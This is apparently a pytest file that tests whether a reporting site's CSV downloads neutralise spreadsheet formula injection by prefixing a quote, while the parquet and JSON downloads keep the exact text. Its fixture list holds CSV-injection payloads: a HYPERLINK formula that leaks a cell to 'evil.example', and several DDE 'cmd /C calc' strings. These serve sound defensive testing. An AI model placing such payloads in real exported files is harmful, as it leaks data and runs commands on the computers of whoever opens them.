"""Downloads safe in a spreadsheet (issue 20): site names, not-evaluable reasons and own-data outcome names that
begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return would run as formulas (or DDE commands) when
``results.csv`` or ``sites.csv`` is opened in a spreadsheet. Every CSV the site publishes neutralises them with
a leading single quote; the parquet and JSON downloads keep the exact text; numbers stay numbers.
"""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from evallib.reporting.publishing import SiteEntry
from evallib.reporting.results_table import FORMULA_STARTS, spreadsheet_safe
from evallib.reporting.static_site import write_downloads

pytestmark = pytest.mark.e2e

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _entries(project: Path, name: str, tmp_path: Path) -> list[SiteEntry]:
    """V04 (evaluated) with a hostile site name and primary outcome, V45 (not evaluable) with a hostile reason."""
    entries = []
    for sid, status in (("V04", "evaluated"), ("V45", "not evaluable")):
        results = json.loads((project / "outputs" / sid / "results.json").read_text())
        results = copy.deepcopy(results)
        results["site_name"] = name
        if status == "evaluated":
            old = results["primary_outcome"]
            results["primary_outcome"] = name
            for row in results["results"]:
                if row["outcome"] == old:
                    row["outcome"] = name
        else:
            results["reason"] = name
        folder = tmp_path / "src" / sid
        folder.mkdir(parents=True)
        (folder / "results.json").write_text(json.dumps(results))
        (folder / "report.html").write_text("<html></html>")
        entries.append(SiteEntry(sid, status, results, folder / "report.html"))
    return entries


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.mark.parametrize("name", HOSTILE)
def test_formula_names_are_text_in_every_csv_download(published_project: Path, tmp_path: Path, name: str) -> None:
    entries = _entries(published_project, name, tmp_path)
    staging = tmp_path / "site"
    write_downloads(staging, entries)
    downloads = staging / "downloads"
    for csv_name in ("results.csv", "sites.csv"):
        cells = _cells(downloads / csv_name)
        assert "'" + name in cells, csv_name  # shown as text, exactly as written after the quote
        live = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
        assert live == [], (csv_name, live)
    sites = pd.read_csv(downloads / "sites.csv")
    assert set(sites["site_name"]) == {"'" + name}
    assert "'" + name in set(sites["reason"].dropna())
    # The exact text stays in the parquet and the JSON.
    tidy = pd.read_parquet(downloads / "results.parquet")
    assert set(tidy["site_name"]) == {name} and name in set(tidy["outcome"])
    assert json.loads((downloads / "V04.json").read_text())["site_name"] == name


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers_negative_ones_included(published_project: Path, tmp_path: Path) -> None:
    entries = _entries(published_project, HOSTILE[0], tmp_path)
    staging = tmp_path / "site"
    write_downloads(staging, entries)
    tidy = pd.read_csv(staging / "downloads" / "results.csv")
    exact = pd.read_parquet(staging / "downloads" / "results.parquet")
    for c in ("estimate", "std_error", "ci_low", "ci_high", "p_value"):
        assert pd.api.types.is_float_dtype(tidy[c]), c
    assert (tidy["estimate"] < 0).any()  # negative estimates are numbers, never quoted
    pd.testing.assert_series_equal(tidy["estimate"], exact["estimate"], check_exact=False, rtol=1e-12)
    sites = pd.read_csv(staging / "downloads" / "sites.csv")
    assert pd.api.types.is_float_dtype(sites["estimate"])


def test_spreadsheet_safe_changes_only_text_that_starts_a_formula() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "plain", "-minus", "@at", "+plus", "\tTab", "\rCR", "a=b", None],
            "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
            "count": pd.array([-1, 2, 3, 4, 5, 6, 7, 8, None], dtype="Int64"),
        }
    )
    out = spreadsheet_safe(frame)
    assert list(out["name"][:8]) == ["'=1+1", "plain", "'-minus", "'@at", "'+plus", "'\tTab", "'\rCR", "a=b"]
    assert pd.isna(out["name"].iloc[8])
    pd.testing.assert_series_equal(out["value"], frame["value"])
    pd.testing.assert_series_equal(out["count"], frame["count"])
    assert frame["name"].iloc[0] == "=1+1"  # the caller's frame (the parquet's) is unchanged
